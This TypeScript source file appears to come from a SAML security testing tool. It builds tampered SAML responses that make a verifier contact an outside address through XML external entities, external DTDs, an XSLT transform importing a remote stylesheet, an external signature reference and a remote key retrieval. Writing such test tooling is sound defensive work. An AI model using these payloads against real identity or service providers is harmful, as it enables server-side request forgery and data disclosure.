import type { Document, Element } from "@xmldom/xmldom";
import { NS } from "../names.ts";
import { child, children, required, rootOf } from "../xml/elements.ts";
import { serializeXml } from "../xml/parse.ts";
import { assertionOf, outermostSignature, signedInfoOf, subjectTexts, unsign } from "./parts.ts";
import type { Doings } from "./tamper.ts";

const XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const XSL = "http://www.w3.org/1999/XSL/Transform";
const RAW_CERTIFICATE = "http://www.w3.org/2000/09/xmldsig#rawX509Certificate";

/** What leads whoever follows it to an address. What stands there would change nothing of who the message is about. */
export const address: Doings<"address"> = {
  "external-entity": (response, { spec, elsewhere }) => {
    for (const element of subjectTexts(assertionOf(response), spec)) element.textContent += ENTITY;
    const declared = `<!ENTITY ${ENTITY} SYSTEM "${elsewhere("entity.ent")}">`;
    return `${doctype(response, `[${declared}]`)}${serializeXml(response).replaceAll(ENTITY, `&${ENTITY};`)}`;
  },
  "external-parameter-entity": (response, { elsewhere }) =>
    doctype(response, `[<!ENTITY % more SYSTEM "${elsewhere("more.dtd")}"> %more;]`) + serializeXml(response),
  "external-document-type": (response, { elsewhere }) =>
    doctype(response, `SYSTEM "${elsewhere("more.dtd")}"`) + serializeXml(response),
  // Whoever transforms before the key is known to have signed it follows anybody.
  "imported-stylesheet": (response, { elsewhere }) => {
    const transforms = required(referenceOf(response), NS.signature, "Transforms");
    const transform = response.createElementNS(NS.signature, "ds:Transform");
    transform.setAttribute("Algorithm", XSLT);
    const sheet = response.createElementNS(XSL, "xsl:stylesheet");
    sheet.setAttribute("version", "1.0");
    const imported = response.createElementNS(XSL, "xsl:import");
    imported.setAttribute("href", elsewhere("more.xsl"));
    sheet.appendChild(imported);
    transform.appendChild(sheet);
    // The output of the one before it must be canonical for the last.
    transforms.insertBefore(transform, transforms.lastChild);
    return response;
  },
  "addressed-reference": (response, { elsewhere }) => {
    referenceOf(response).setAttribute("URI", elsewhere("more.xml"));
    return response;
  },
  "addressed-key": async (response, { signAsStranger, elsewhere }) => {
    unsign(response);
    const signed = await signAsStranger(response);
    for (const element of [rootOf(signed), assertionOf(signed)]) {
      const signature = child(element, NS.signature, "Signature");
      if (signature === undefined) continue;
      for (const info of children(signature, NS.signature, "KeyInfo")) signature.removeChild(info);
      const method = signed.createElementNS(NS.signature, "ds:RetrievalMethod");
      method.setAttribute("URI", elsewhere("certificate.der"));
      method.setAttribute("Type", RAW_CERTIFICATE);
      const info = signed.createElementNS(NS.signature, "ds:KeyInfo");
      info.appendChild(method);
      signature.appendChild(info);
    }
    return signed;
  },
};

const ENTITY = "text-of-elsewhere";

function doctype(response: Document, rest: string): string {
  return `<!DOCTYPE ${rootOf(response).nodeName} ${rest}>`;
}

function referenceOf(response: Document): Element {
  return required(signedInfoOf(outermostSignature(response)), NS.signature, "Reference");
}
